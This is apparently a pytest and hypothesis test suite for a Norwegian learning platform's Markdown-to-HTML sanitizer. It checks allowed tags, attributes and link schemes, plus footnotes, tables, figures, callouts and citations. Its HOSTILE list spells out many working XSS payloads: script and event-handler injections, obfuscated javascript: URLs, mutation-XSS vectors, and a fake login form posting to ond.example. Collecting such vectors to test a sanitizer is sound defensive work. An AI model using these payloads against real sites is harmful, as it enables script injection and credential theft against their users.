"""Markdown to HTML: what authors may do, and what nobody can, whatever they write."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from lms.markup import ADMONITIONS, MarkupError, is_safe_link, render

# The contract, written out once more and apart from the code, so that a slip in its list does not pass here too.
TAGS = {
    "details",
    "summary",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "div",
    "blockquote",
    "pre",
    "ol",
    "ul",
    "li",
    "hr",
    "br",
    "img",
    "a",
} | {
    *("em", "strong", "code", "sub", "sup", "figure", "figcaption", "details", "summary"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"alt", "aria-label", "class", "href", "id", "rel", "role", "scope", "src", "start", "tabindex", "title"}
CLASSES = {"admonition", "admonition-title", "tip", "fact", "caution", "case", "reflection", "figure", "reference"} | {
    *("attachment", "more", "slot", "video"),
    *("footnote", "footnote-ref", "footnote-backref", "ds-table", "table-scroll"),
    *("align-left", "align-center", "align-right"),
}
VOID = {"br", "hr", "img"}


class Page(HTMLParser):
    """Finished HTML as a browser's parser sees it: elements in order, what is open, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open and self.open.pop() == tag, f"</{tag}> closes nothing: it could close the page around"

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data!r}")

    def all(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.elements if name == tag]

    def one(self, tag: str) -> dict[str, str]:
        (attributes,) = self.all(tag)
        return attributes


def assert_harmless(html: str) -> None:
    page = Page(html)
    assert page.open == []
    for tag, attributes in page.elements:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert set(attributes.get("class", "").split()) <= CLASSES
        assert attributes.get("id", "tekst-").startswith("tekst-")
        assert attributes.get("role", "note") in {"note", "region"}
        assert attributes.get("tabindex", "0") == "0"
        for address in (attributes.get("href", ""), attributes.get("src", "")):
            # What a browser makes of it: control characters and white space are dropped, case does not count.
            bare = re.sub(r"[\x00-\x20]", "", address).lower()
            assert re.match(r"(https?:|mailto:|[^:]*$|[^:/?#]*[/?#])", bare), address
            assert not bare.startswith(("//", "\\", "/\\")), address
        assert not re.match(r"[a-z]+:", attributes.get("src", "").lower())


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//ond.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror = 'alert(1)' >",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<style>@import 'https://ond.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=https://ond.example/x.css>",
    "<base href='https://ond.example/'>",
    "<meta http-equiv=refresh content='0;url=https://ond.example/'>",
    "<iframe src='https://ond.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://ond.example/'><input name=password><button>Logg inn</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><select><option>x</select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p id=csrf_token name=csrf_token>x</p>",
    "<a id=location href=#>x</a><a name=cookie>x</a>",
    "<div class='ds-dialog modal open'>x</div>",
    "<div role=alert tabindex=5 aria-live=assertive>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//ond.example'>x</a>",
    "<a href='/\\ond.example'>x</a>",
    "<a href='https://x.example' target=_blank onclick=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//ond.example)",
    "[x](https://a.example \"' onmouseover=alert(1) x='\")",
    '[x](https://a.example"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://ond.example/spor.gif)",
    '![x"onerror="alert(1)](x.png "t")',
    '![x](x.png"onerror="alert(1))',
    '![x](x.png "</figcaption></figure><script>alert(1)</script>")',
    "## Tittel {#csrf_token}",
    "## Tittel {: #csrf_token .modal onclick=alert(1) style=color:red }",
    "Avsnitt\n{: onclick=alert(1) style='position:fixed' id=innhold name=x }",
    "*x*{: onmouseover=alert(1) }",
    "[x](https://a.example){: target=_blank href=javascript:alert(1) }",
    '!!! tip" onclick="alert(1)\n    x',
    "!!! modal dialog\n    x",
    '!!! tip "<script>alert(1)</script>"\n    x',
    "[^x]\n\n[^x]: <img src=x onerror=alert(1)>",
    "[^csrf_token]\n\n[^csrf_token]: x",
    '[^"onclick=alert(1) x="]\n\n[^"onclick=alert(1) x="]: x',
    "[^<script>]\n\n[^<script>]: x",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "| <img src=x onerror=alert(1)> |\n|--|\n| x |",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<!-- --!> <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "</p></div></main></body><script>alert(1)</script>",
    "<b><p><i></b></p></i><table><a><tr></a><div>",
    "<table><tr><td><form><input></td></tr></form></table>",
    "<p><p><p></div></div>",
    "<<img src=x onerror=alert(1)>>",
    "<a<b><img/**/src=x onerror=alert(1)>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "[rapport](javascript:alert(1))",
    "[rapport, <script>alert(1)</script>]",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless(text: str) -> None:
    assert_harmless(render(text))
    assert_harmless(render(f"Før {text} etter\n\n* {text}\n\n> {text}", citations=["rapport"]))


def test_what_a_script_would_have_done_is_gone_or_plain_text() -> None:
    page = Page(render("<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\nTekst"))
    assert "alert" not in page.text
    assert "Tekst" in page.text


BITS = [
    *HOSTILE,
    *[
        "<",
        ">",
        '"',
        "'",
        "`",
        "*",
        "_",
        "[",
        "]",
        "(",
        ")",
        "!",
        "#",
        "{",
        "}",
        ":",
        "^",
        "|",
        "&",
        "\\",
        "\n",
        "\n\n",
    ],
    *[
        "    ",
        "> ",
        "* ",
        "1. ",
        "!!! ",
        "tip",
        "[^1]",
        "[^1]: ",
        "| a |\n|:-|\n",
        "\x02",
        "\x03",
        "</p>",
        "<b>",
        "é",
        "æ",
    ],
]


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.text(), st.lists(st.sampled_from(BITS), max_size=12).map("".join)))
def test_any_text_renders_to_harmless_html_or_is_refused(text: str) -> None:
    try:
        html = render(text, citations=["rapport"], pictures={"x.png": "/innhold/0/x.png"})
    except MarkupError:
        return
    assert isinstance(html, Markup)
    assert_harmless(html)


@settings(max_examples=100, deadline=None)
@given(st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=40))
def test_no_address_gets_through_that_a_browser_would_run(tail: str) -> None:
    for address in (f"javascript:{tail}", f"{tail}javascript:x", f"data:{tail}", f"\\\\{tail}", f"//{tail}"):
        assert_harmless(render(f"[x]({address}) ![x]({address})"))
    assert not is_safe_link(f"javascript:{tail}")


@pytest.mark.parametrize(
    ("address", "safe"),
    [
        ("https://nav.no/a?b=c#d", True),
        ("HTTP://nav.no", True),
        ("mailto:post@example.no", True),
        ("side", True),
        ("side?tid=12:30", True),
        ("#anker", True),
        ("/innhold/x/y.svg", True),
        ("", True),
        ("tel:112", False),
        ("java\u200bscript:x", False),
        ("java\xadscript:x", False),
        ("&#x6a;avascript:x", False),
        ("feed:https://x", False),
        ("/\t/ond.example", False),
    ],
)
def test_addresses_are_judged_by_what_a_browser_makes_of_them(address: str, safe: bool) -> None:
    assert is_safe_link(address) is safe


# What authors may do.


def test_ids_from_text_can_never_be_ids_of_the_page() -> None:
    page = Page(render("## Å løfte riktig\n\n## Egen {#csrf_token}\n\n[hopp](#csrf_token)[^1]\n\n[^1]: Note"))
    assert [heading["id"] for heading in page.all("h2")] == ["tekst-å-løfte-riktig", "tekst-csrf_token"]
    assert [link["href"] for link in page.all("a")] == ["#tekst-csrf_token", "#tekst-fn:1", "#tekst-fnref:1"]
    assert page.one("sup")["id"] == "tekst-fnref:1"
    assert page.one("li")["id"] == "tekst-fn:1"


def test_every_inner_link_of_a_text_finds_its_target() -> None:
    page = Page(render("## Sær & rar: æøå!\n\nA[^a] b[^b] c[^a].\n\n[^a]: En\n[^b]: To\n\n## Sær & rar: æøå!"))
    ids = [attributes["id"] for _, attributes in page.elements if "id" in attributes]
    assert len(ids) == len(set(ids))
    assert {link["href"].removeprefix("#") for link in page.all("a")} <= set(ids)


def test_footnotes_lead_back_in_norwegian() -> None:
    page = Page(render("Tekst[^1]\n\n[^1]: Note"))
    assert page.all("a")[1]["title"] == "Tilbake til note 1 i teksten"


def test_a_heading_of_the_first_level_gives_way_to_the_title_of_the_page() -> None:
    assert [tag for tag, _ in Page(render("# En\n\n### To")).elements] == ["h2", "h3"]


def test_tables_scroll_can_be_reached_by_keyboard_and_are_aligned_by_class() -> None:
    page = Page(render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\nog\n\n| d |\n|---|\n| 4 |"))
    assert page.all("table") == [{"class": "ds-table"}, {"class": "ds-table"}]
    assert page.all("div") == [
        {"class": "table-scroll", "role": "region", "tabindex": "0", "aria-label": f"Tabell {number}"}
        for number in (1, 2)
    ]
    assert [cell.get("class") for cell in page.all("td")] == ["align-left", "align-center", "align-right", None]
    assert all(header["scope"] == "col" for header in page.all("th"))


def test_a_picture_alone_with_a_title_is_a_figure_with_a_caption() -> None:
    html = render('![Ryggen «bærer»](rygg.svg "Sterk & myk")', pictures={"rygg.svg": "/innhold/ab/rygg.svg"})
    page = Page(html)
    assert page.one("figure") == {"class": "figure"}
    assert page.one("img") == {"alt": "Ryggen «bærer»", "src": "/innhold/ab/rygg.svg"}
    assert "<figcaption>Sterk &amp; myk</figcaption>" in html


@pytest.mark.parametrize(
    "text",
    ['Se ![a](x.svg "T")', '![a](x.svg "T") her', "![a](x.svg)", '![a](x.svg "T") ![b](x.svg "T")', '![a](x.svg " ")'],
)
def test_a_picture_in_company_or_without_a_title_is_no_figure(text: str) -> None:
    page = Page(render(text))
    assert page.all("figure") == []
    assert page.all("img")


@pytest.mark.parametrize("kind", [kind for kind in ADMONITIONS if kind != "video"])
def test_callouts_are_notes_with_a_norwegian_title(kind: str) -> None:
    html = render(f"!!! {kind}\n    Tekst med **trykk**.")
    assert Page(html).one("div") == {"class": f"admonition {kind}", "role": "note"}
    assert f'<p class="admonition-title">{ADMONITIONS[kind]}</p>' in html
    assert "<strong>trykk</strong>" in html


def test_the_title_of_a_callout_is_the_authors_when_there_is_one() -> None:
    assert '<p class="admonition-title">På «lageret»</p>' in render('!!! case "På «lageret»"\n    Tekst')
    assert "admonition-title" not in render('!!! case ""\n    Tekst')


def test_only_links_that_leave_the_site_are_told_to_keep_the_window_to_themselves() -> None:
    page = Page(render("[a](https://nav.no) [b](#x) [c](side) <https://nhi.no> <post@example.no>"))
    assert [link.get("rel") for link in page.all("a")] == ["noopener", None, None, "noopener", None]


def test_citations_link_to_their_source_and_keep_their_brackets() -> None:
    page = Page(render("Sant. [rapport, kap. 10.5] [rapport] [rapport-2, s. 1]", citations=["rapport", "rapport-2"]))
    assert [link["href"] for link in page.all("a")] == [
        "#tekst-kilde-rapport",
        "#tekst-kilde-rapport",
        "#tekst-kilde-rapport-2",
    ]
    assert page.text == "Sant. [rapport, kap. 10.5] [rapport] [rapport-2, s. 1]"


@pytest.mark.parametrize("text", ["`[rapport]`", "[annen, s. 1]", "\\[rapport]", "[rapporten]", "[ rapport]"])
def test_what_is_no_citation_stays_text(text: str) -> None:
    assert Page(render(text, citations=["rapport"])).all("a") == []
